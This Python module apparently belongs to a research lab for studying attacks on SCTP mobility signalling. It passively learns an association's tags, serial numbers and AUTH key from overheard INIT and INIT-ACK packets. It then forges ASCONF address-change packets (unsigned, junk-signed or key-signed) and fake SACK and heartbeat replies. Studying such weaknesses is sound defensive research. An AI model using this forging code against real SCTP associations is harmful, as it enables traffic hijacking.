"""What somebody who is no end of an association can learn of it, and the packets that can be forged from that.

An :class:`Overheard` is fed with packets as they pass. What it then knows is what RFC 5062 grants an attacker on the path:
ports, verification tags, the serial number that comes next, and, from INIT and INIT-ACK, the association's key (RFC 4895, 6.1:
without a configured endpoint key those two say all that it is made from).
"""

from __future__ import annotations

import struct
from collections.abc import Sequence
from dataclasses import dataclass, field
from enum import Enum
from typing import Final

from roamlab.protocols.errors import DecodeError
from roamlab.protocols.ip import Address
from roamlab.protocols.rewriting import Keys
from roamlab.protocols.sctp import auth, packet
from roamlab.protocols.sctp.chunks import (
    Asconf,
    Auth,
    Chunk,
    CookieEcho,
    Data,
    Heartbeat,
    HeartbeatAck,
    Init,
    InitAck,
    Sack,
)
from roamlab.protocols.sctp.endpoint import WINDOW
from roamlab.protocols.sctp.packet import Packet
from roamlab.protocols.sctp.parameters import Parameter, address_parameter

_TIE_TAGS: Final = struct.Struct("=II")
_TIE_TAGS_AT: Final = 32 + 4 + 8  # MAC, padding, the two tags of the association to be


class Signing(Enum):
    """What stands before a forged ASCONF: no AUTH, one with a made-up HMAC, or one with the association's key."""

    NONE = "none"
    JUNK = "junk"
    KEY = "key"


def tie_tags(cookie: bytes) -> tuple[int, ...]:
    """The tie-tags in a cookie of Linux's (struct sctp_cookie, behind 32 bytes of MAC and 4 of padding; in host order here).

    A cookie that answers the INIT of a restart has them (RFC 9260, 5.2.2). RFC 2960 had the association's own tags there; since
    RFC 4960 they are nonces. ValueError for a cookie that is too short to have any.
    """
    if len(cookie) < _TIE_TAGS.size + _TIE_TAGS_AT:
        raise ValueError(f"a cookie of {len(cookie)} bytes has no tie-tags")
    return _TIE_TAGS.unpack_from(cookie, _TIE_TAGS_AT)


@dataclass(slots=True)
class Overheard:
    """An association between ``mobile``, which set it up, and ``correspondent``; only the first one that is seen.

    ``tag`` is that of packets to the correspondent, ``serial`` of the ASCONF that comes next. None, 0 and b"": not known.
    """

    mobile: Address | None = None
    correspondent: Address | None = None
    sport: int = 0
    dport: int = 0
    tag: int = 0
    serial: int = 0
    cookie_echo: bytes = b""
    keys: Keys = field(default_factory=Keys)
    _initial_tag: int = 0

    def see(self, source: Address, destination: Address, data: bytes) -> None:
        """Look at a packet that passes."""
        try:
            seen = packet.decode(data)
        except DecodeError:
            return
        self.keys.learn(data)
        for chunk in seen.chunks:
            match chunk:
                case Init() if self.mobile is None:
                    self.mobile, self.correspondent = source, destination
                    self.sport, self.dport = seen.sport, seen.dport
                    self._initial_tag, self.serial = chunk.tag, chunk.tsn
                case InitAck() if seen.tag == self._initial_tag and not self.tag:
                    self.tag = chunk.tag
                case CookieEcho() if seen.tag == self.tag and not self.cookie_echo:
                    self.cookie_echo = data
                case Asconf() if seen.tag == self.tag:
                    self.serial = (chunk.serial + 1) & 0xFFFFFFFF

    def asconf(self, requests: Sequence[Parameter], signing: Signing) -> bytes:
        """An ASCONF of the mobile node's that it never sent, found by its address. Raises NoKey, ValueError."""
        if self.mobile is None:
            raise ValueError("no association was overheard")
        forged = Asconf(self.serial, (address_parameter(self.mobile), *requests))
        self.serial = (self.serial + 1) & 0xFFFFFFFF
        if signing is Signing.NONE:
            return self._packet(forged)
        data = self._packet(Auth(0, auth.SHA1, bytes(range(auth.hmac_length(auth.SHA1)))), forged)
        return data if signing is Signing.JUNK else auth.sign(data, self.keys.key(self.tag))

    def answer(self, data: bytes) -> bytes | None:
        """What an end would answer: HEARTBEAT-ACK to HEARTBEAT, SACK to DATA, None to everything else."""
        try:
            seen = packet.decode(data)
        except DecodeError:
            return None
        replies: list[Chunk] = []
        tsns = [chunk.tsn for chunk in seen.chunks if isinstance(chunk, Data)]
        if tsns:
            replies.append(Sack(tsns[-1], WINDOW))
        replies += [HeartbeatAck(chunk.parameters) for chunk in seen.chunks if isinstance(chunk, Heartbeat)]
        return self._packet(*replies) if replies else None

    def _packet(self, *chunks: Chunk) -> bytes:
        return Packet(self.sport, self.dport, self.tag, chunks).encode()
